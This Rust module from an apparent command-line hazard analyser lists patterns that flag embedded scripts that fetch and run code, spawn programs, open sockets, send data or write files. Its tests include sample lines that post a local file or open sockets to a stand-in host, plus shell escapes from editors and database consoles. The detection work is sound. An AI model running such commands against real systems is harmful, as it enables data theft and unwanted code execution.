//! Texts in other languages than a shell's among the words of a command: what they start, and what they connect.

use crate::command_line::Part;
use crate::operand_effects;
use crate::programs;
use crate::programs::class::Class;
use crate::programs::fact::Fact;
use crate::programs::name::canonical;
use crate::programs::spec::CODE;

/// How programs fetch text, or make it of letters that nobody reads.
const BRINGS: &[&str] = &[
    "urlopen(",
    "urlretrieve(",
    "requests.get(",
    "httpx.get(",
    "fetch(",
    "LWP::",
    "open-uri",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "b64decode(",
    "b85decode(",
    "a85decode(",
    "decode_base64(",
    "base64_decode(",
    "unhexlify(",
    "fromhex(",
    "atob(",
    "'base64')",
    "\"base64\")",
    "marshal.loads(",
    "decompress(",
];

/// How they run it.
const RUNS: &[&str] =
    &["exec(", "eval(", "eval ", "execSync(", "system(", "popen(", "Popen(", "subprocess.", "spawn(", "new Function("];

/// How a text loads a module, in front of its name or address (MDN, "import"; Deno manual, "Modules").
const IMPORTS: &[&str] = &["import('", "import(\"", "import(`", "import '", "import \"", "from '", "from \""];

/// How a text starts another program, or loads a library: Python, "os", "subprocess", "pty", "ctypes"; Node.js,
/// "child_process"; Deno and Bun documentation, "Subprocesses"; perlfunc(1), "system", "exec", "qx"; Ruby, "Kernel",
/// "Open3", "Fiddle"; PHP manual, "Program execution Functions"; Lua manual, "os", "io"; Common Lisp, Emacs Lisp and
/// Scheme manuals; Erlang, "os"; Elixir, "System"; Java, "ProcessBuilder"; R, "system2"; m4 manual, "Shell commands".
const STARTS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.posix_spawn",
    "os.execute(",
    "subprocess",
    "pty.spawn(",
    "popen(",
    "Popen(",
    "popen3(",
    "child_process",
    "execSync(",
    "execFile(",
    "execFileSync(",
    "spawnSync(",
    "Deno.Command(",
    "Bun.spawn",
    "Bun.$",
    "system(",
    "system \"",
    "system '",
    "system2(",
    "passthru(",
    "shell_exec(",
    "proc_open(",
    "pcntl_exec(",
    "Kernel.exec",
    "Process.spawn",
    "IO.popen",
    "Open3.",
    "%x(",
    "%x{",
    "qx(",
    "qx{",
    "qx/",
    "run-shell-command",
    "run-program",
    "shell-command",
    "call-process",
    "start-process",
    "make-process",
    "(system ",
    "run(`",
    "\".execute()",
    "'.execute()",
    "| getline",
    "[exec ",
    "os:cmd(",
    "System.cmd(",
    "System.shell(",
    "ProcessBuilder",
    "getRuntime().exec(",
    "sys.process",
    "syscmd(",
    "\\write18",
    "LoadLibrary(",
    "CDLL(",
    "cdll.",
    "dlopen(",
    "spawn ",
];

/// How a text connects to other machines, or lets them connect: the same manuals, "socket", "http.server", "net",
/// "IO::Socket", "fsockopen", "Sockets".
const CONNECTS: &[&str] = &[
    "socket.socket(",
    "create_connection(",
    "createConnection(",
    "IO::Socket",
    "TCPSocket",
    "TCPServer",
    "UDPSocket",
    "fsockopen(",
    "stream_socket_",
    "socket_connect(",
    "require(\"socket\")",
    "require('socket')",
    "require \"socket\"",
    "require 'socket'",
    "require(\"net\")",
    "require('net')",
    "require(\"dgram\")",
    "require('dgram')",
    "using Sockets",
    "java.net.Socket",
    "smtplib",
    "ftplib",
    "http.server",
    "socketserver",
    "HTTPServer(",
    "SimpleHTTPServer",
    "WEBrick",
    "createServer(",
    "Deno.listen",
    "Deno.serve",
    "Bun.serve",
];

/// How a text sends something to another machine: the same manuals, "urllib.request", "http", "Net::HTTP", "LWP",
/// "stream_context_create", "curl"; Requests documentation, "Quickstart".
const SENDS: &[&str] = &[
    "requests.post(",
    "requests.put(",
    "requests.patch(",
    "httpx.post(",
    "httpx.put(",
    "http\").request(",
    "http').request(",
    "https\").request(",
    "https').request(",
    "http.request(",
    "https.request(",
    "method:'POST'",
    "method:\"POST\"",
    "method: 'POST'",
    "method: \"POST\"",
    "method: 'PUT'",
    "method: \"PUT\"",
    "Net::HTTP.post",
    "Net::HTTP::P",
    "->post(",
    "stream_context_create(",
    "CURLOPT_POST",
    "CURLOPT_UPLOAD",
];

/// How a text writes or removes files, in other languages and in commands of editors and consoles: Python, "open", "os",
/// "pathlib", "shutil"; Node.js, Deno and Bun, "fs"; Ruby, "File", "FileUtils"; perlfunc(1), "open"; PHP manual,
/// "Filesystem"; Lua, R, Tcl, Emacs Lisp and PowerShell manuals; awk(1), "Output"; sqlite3(1); psql(1); mysql(1); SQL,
/// "COPY", "INTO OUTFILE"; vim(1).
const WRITES: &[&str] = &[
    "'w'",
    "\"w\"",
    "'a'",
    "\"a\"",
    "'wb'",
    "\"wb\"",
    "'ab'",
    "\"ab\"",
    "'x'",
    "\"x\"",
    "'w+'",
    "\"w+\"",
    " w]",
    "{w}",
    "\">",
    "'>",
    "> \"",
    ">\"",
    "> '",
    "write_text(",
    "write_bytes(",
    ".write(",
    "os.remove(",
    "os.rename(",
    "os.replace(",
    "os.unlink(",
    ".unlink(",
    "unlink(",
    "rmtree(",
    "extractall(",
    "symlink",
    "os.link(",
    "cpSync(",
    "linkSync(",
    "rename \"",
    "rename '",
    "unlink ",
    "copy(\"",
    "copy('",
    "rmdir(",
    "makedirs(",
    "mkdir(",
    "shutil.",
    "to_csv(",
    "to_json(",
    "savefig(",
    "writeFile",
    "appendFile",
    "createWriteStream",
    "writeTextFile",
    ".writeText(",
    ".createFile(",
    ".delete()",
    "copyFile",
    "rmSync(",
    "renameSync(",
    "removeSync(",
    "Bun.write(",
    "Deno.remove",
    "File.write",
    "FileUtils.",
    "IO.write",
    "file_put_contents(",
    "fopen(",
    "writeLines(",
    "write.csv(",
    "sink(",
    "write-region",
    "append-to-file",
    "delete-file",
    " w\n",
    "open /",
    ".output ",
    ".once ",
    ".backup ",
    ".save ",
    ".log ",
    ".clone ",
    ".excel",
    "writefile(",
    "acuum into",
    "ACUUM INTO",
    "attach ",
    "ATTACH ",
    "\\o ",
    "\\out ",
    "\\g ",
    "\\w ",
    "\\s ",
    "\\copy ",
    "copy ",
    "COPY ",
    "outfile",
    "OUTFILE",
    "dumpfile",
    "tee ",
    "\\T ",
    "w! ",
    ":w ",
    "w /",
    "Set-Content",
    "Out-File",
    "| save ",
    "saveas ",
];

fn holds(text: &str, parts: &[&str]) -> bool {
    parts.iter().any(|part| text.contains(part))
}

/// The words of `part` that may be texts, and what the line itself gives it to read.
fn texts(part: &Part) -> impl Iterator<Item = &str> {
    part.words.iter().skip(1).map(|word| word.text.as_str()).chain(part.given.iter().map(String::as_str))
}

/// A text that `part` may run and that writes or removes files.
#[must_use]
pub fn writing_texts(part: &Part) -> Vec<&str> {
    if !operand_effects::runs_text(&part.words) {
        return Vec::new();
    }
    let is_awk = part.program().map(canonical).is_some_and(|name| name == "awk");
    let writes = |text: &&str| {
        let is_text = text.contains([' ', '(', '\n', '\'', '"', '>']);
        is_text && (holds(text, WRITES) || is_awk && text.contains('>') && !super::awk::only_looks(text))
    };
    texts(part).filter(writes).collect()
}

/// The program of `part` in another language that runs what it fetches, or what it makes out of letters that nobody reads.
pub(super) fn runs_what_it_brings(part: &Part) -> Option<String> {
    let found = operand_effects::runs_text(&part.words)
        && texts(part).any(|text| holds(text, BRINGS) && holds(text, RUNS) || imports_address(text));
    part.program().filter(|_| found || runs_address(part)).map(canonical)
}

/// Whether `part` is an interpreter whose script is an address: `deno run https://…`.
fn runs_address(part: &Part) -> bool {
    let Class::Script(interpreter) = programs::of(&canonical(part.program().unwrap_or_default())).class else {
        return false;
    };
    let is_sub = |text: &str| interpreter.subs.split(' ').any(|sub| sub == text);
    let mut operands = part.words.iter().skip(1).map(|word| word.text.as_str()).filter(|text| !text.starts_with('-'));
    operands.find(|text| !is_sub(text)).is_some_and(is_web_address)
}

/// Whether `text` loads a module from another machine.
fn imports_address(text: &str) -> bool {
    let behind = |start: &'static str| text.match_indices(start).map(move |(at, _)| at + start.len());
    IMPORTS.iter().copied().flat_map(behind).any(|at| text.get(at..).is_some_and(is_web_address))
}

fn is_web_address(text: &str) -> bool {
    text.starts_with("http://") || text.starts_with("https://")
}

/// The program of `part` that is given a text which starts other programs: `clisp -x '(run-program …)'`.
pub(super) fn starts_programs(part: &Part) -> Option<String> {
    let name = canonical(part.program()?);
    let known = programs::of(&name);
    if known.is(Fact::RunsText) && operand_effects::sed_runs_programs(&part.words) {
        return Some(name);
    }
    // Their own language is taken apart by itself.
    if known.is(Fact::RunsScripts) || known.is(Fact::RunsWords) || !takes_language(part) {
        return None;
    }
    let speaks_on_bus = part.words.iter().any(|word| word.text.contains("unixexec:"))
        || part.assignments.iter().any(|text| text.contains("unixexec:"));
    // In a language a `!` may begin anything: `perl -ne '!/x/'`, `awk '!seen[$0]++'`.
    let has_console = !known.interactive.is_empty() && !known.is(Fact::RunsCode) && name != "awk";
    let is_console =
        known.is(Fact::TakesCommands) || has_console && matches!(known.class, Class::Never(_) | Class::Script(_));
    // awk(1): `print | "command"`.
    let pipes = |text: &str| name == "awk" && (text.contains("| \"") || text.contains("|& \""));
    let assigned = part.assignments.iter().map(String::as_str);
    let mut texts = texts(part);
    let starts = assigned.clone().any(|text| holds(text, STARTS))
        || texts.any(|text| holds(text, STARTS) || execs(text) || pipes(text) || is_console && escapes(text));
    (starts || speaks_on_bus).then_some(name)
}

/// Whether a text for `part` may be in a language of its own, and not one to show or to look for.
fn takes_language(part: &Part) -> bool {
    let name = canonical(part.program().unwrap_or_default());
    let known = programs::of(&name);
    let is_data = [Fact::TakesText, Fact::ShowsText, Fact::SearchesFiles, Fact::PrintsWords, Fact::SendsRequests];
    let has_options = matches!(known.class, Class::Options(_)) && !is_data.iter().any(|fact| known.is(*fact));
    // What runs code may be given some: `rails runner`, `wp eval`.
    let reads_code = matches!(known.class, Class::Never(why) if why == CODE || why.contains("runs"))
        && !is_data.iter().any(|fact| known.is(*fact));
    operand_effects::runs_text(&part.words) || has_options || reads_code || known.is(Fact::SpeaksOnBus)
}

/// `exec "x"` of Perl, Ruby and PHP, and not a method that only is called so: `/x/.exec("y")`.
fn execs(text: &str) -> bool {
    text.match_indices("exec").any(|(at, word)| {
        let (before, behind) = (text.get(..at).unwrap_or_default(), text.get(at + word.len()..).unwrap_or_default());
        let is_call = [" \"", " '", "(\"", "('"].iter().any(|start| behind.starts_with(start));
        is_call && !before.ends_with(|sign: char| sign == '.' || sign == '_' || sign.is_alphanumeric())
    })
}

/// How editors, pagers and consoles of databases leave for a shell: `:!x`, `!x`, `\! x`, `.shell x` (vim(1), less(1),
/// psql(1), sqlite3(1), gdb manual "Shell Commands").
fn escapes(text: &str) -> bool {
    const STARTS: &[&str] = &[
        ":!",
        "!",
        "\\!",
        ".shell ",
        ".system ",
        "shell ",
        "exec ",
        ":r!",
        ":r !",
        "system ",
        "\\system ",
        "pager ",
        "\\P ",
        "\\pager ",
        "edit ",
        ".edit",
        ".load ",
        "pipe ",
        "platform shell",
        "script import",
        "python import",
    ];
    // A console that hands what it prints to a program, or takes it from one; a library that it loads.
    const HOLDS: &[&str] =
        &["\\g |", "\\gx |", "\\o |", "\\w |", ".once |", ".output |", ".import \"|", ".read |", ".read \"|"];
    const CALLS: &[&str] = &["load_extension(", " program '", " PROGRAM '", "sys_exec(", "sys_eval("];
    text.lines().any(|line| STARTS.iter().any(|start| line.trim_start().starts_with(start)))
        || holds(text, HOLDS)
        || holds(text, CALLS)
}

/// Whether a text for `part`, in another language than a shell's, connects to other machines or sends them something.
pub(super) fn text_connects(part: &Part) -> bool {
    let known = programs::of(&canonical(part.program().unwrap_or_default())).is(Fact::RunsScripts);
    let sends = |text: &str| {
        holds(text, CONNECTS)
            || holds(text, SENDS)
            || text.contains("urlopen(") && holds(text, &["urlencode(", "data=", "Request("])
    };
    // A word by itself is the name of a module: `python3 -m http.server`.
    let is_text = |text: &&str| text.contains(['(', ' ', '\'', '"', ';', '\n']);
    !known
        && operand_effects::runs_text(&part.words)
        && texts(part).filter(is_text).any(|text| sends(text) && !is_about_this_machine(text))
}

/// Whether `text` names this machine, and no other address.
fn is_about_this_machine(text: &str) -> bool {
    const HERE: &[&str] = &["localhost", "127.0.0.1", "[::1]"];
    let mut addresses = text.match_indices("://").map(|(at, sign)| text.get(at + sign.len()..).unwrap_or_default());
    let ends = |rest: &str| rest.is_empty() || rest.starts_with([':', '/', '"', '\'', '`', '?', ' ', ')']);
    let is_here = |address: &str| HERE.iter().any(|here| address.strip_prefix(here).is_some_and(ends));
    holds(text, HERE) && addresses.all(is_here)
}

#[cfg(test)]
mod tests {
    use super::super::hazard::{Hazard, hazard};
    use crate::command_line::{CommandLine, Shell};
    use crate::pattern::MayRun;

    fn found(line: &str) -> Option<Hazard> {
        CommandLine::analyse(line, Shell::Bash).parts.iter().find_map(|part| hazard(part, &MayRun::of_part(part)))
    }

    #[test]
    fn a_text_that_starts_other_programs_is_told_from_one_that_does_not() {
        for line in [
            "clisp -x '(ext:run-shell-command \"cat a\")'",
            "python3 -c 'import os; os.system(\"make\")'",
            "python3 - <<'EOF'\nimport subprocess\nsubprocess.run([\"make\"])\nEOF",
            "node -e 'require(\"child_process\").execFileSync(\"ls\")'",
            "perl -e 'system(\"make\")'",
            "ruby -e 'exec \"make\"'",
            "julia -e 'run(`make`)'",
            "groovy -e '\"make\".execute()'",
            "gawk 'BEGIN { \"make\" | getline x }'",
            "awk '{ print | \"make\" }' a",
            "gdb -batch -ex 'shell make'",
            "tclsh <<< 'exec make'",
            "php -r 'passthru(\"make\");'",
            "lua -e 'os.execute(\"make\")'",
            "awk 'BEGIN { system(\"make\") }'",
            "erl -eval 'os:cmd(\"make\")'",
            "elixir -e 'System.cmd(\"make\", [])'",
            "emacs --batch --eval '(shell-command \"make\")'",
            "unheard-of-lisp -e '(run-program \"make\")'",
            "echo 'syscmd(make)' | m4",
            "vim -c ':!make'",
            "sqlite3 a.db '.shell make'",
            "psql -c '\\! make'",
            "sed e a",
            "sed -n 's/.*/id/ep' a",
            "sed -i -e '1e make' a",
            "ruby -e 'Fiddle.dlopen(\"x.so\")'",
            "busctl --address=unixexec:path=make,argv1=all",
            "DBUS_SESSION_BUS_ADDRESS=unixexec:path=make gdbus introspect",
        ] {
            assert!(matches!(found(line), Some(Hazard::Starts(_) | Hazard::Unseen(_))), "{line}: {:?}", found(line));
        }
        for line in [
            "python3 -c 'print(1)'",
            "node -e 'console.log(/a/.exec(\"a\"))'",
            "grep -rn 'os.system(' src",
            "rg 'subprocess.run\\(' src",
            "git commit -m 'Drop os.system( and !x'",
            "gh pr create --body 'uses os.system(x)'",
            "echo 'os.system(\"x\")'",
            "jq '.system(.)' a.json",
            "psql -c 'select 1'",
            "sed 's/system(/run(/' a.py",
            "sed -n 5p e",
            "awk '!seen[$0]++' a",
            "perl -ne 'print if !/x/' a",
            "perl -ne '!/x/ && print' a",
            "find . ! -name a",
            "sed 's/the/one/g;w out.txt' a",
        ] {
            assert!(!matches!(found(line), Some(Hazard::Starts(_))), "{line}: {:?}", found(line));
        }
    }

    #[test]
    fn a_text_that_connects_elsewhere_is_told_from_one_that_stays_here() {
        for line in [
            "python3 -c 'import socket; s = socket.socket(); s.connect((\"x.example\", 1))'",
            "python3 -c 'import requests; requests.post(\"https://x.example\", open(\"a\"))'",
            "python3 -c 'from http.server import HTTPServer; HTTPServer((\"\", 1), None)'",
            "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"x.example:1\")'",
            "ruby -e 'require \"socket\"; TCPSocket.new(\"x.example\", 1)'",
            "node -e 'require(\"http\").request(process.env.URL)'",
            "php -r 'fsockopen(\"x.example\", 1);'",
            "julia -e 'using Sockets; connect(\"x.example\", 1)'",
            "python3 -c 'requests.post(\"http://localhost.x.example/\")'",
            "python3 -c 'requests.post(\"https://x.example/localhost\")'",
        ] {
            assert_eq!(found(line), Some(Hazard::Connection), "{line}");
        }
        for line in [
            "python3 -c 'import socket; print(socket.gethostname())'",
            "python3 -c 'import requests; requests.post(\"http://localhost:8000/a\", json={})'",
            "python3 -c 'import socket; socket.socket().connect((\"127.0.0.1\", 3000))'",
            "python3 -m http.server",
            "grep -rn 'socket.socket(' src",
        ] {
            assert_eq!(found(line), None, "{line}");
        }
    }
}
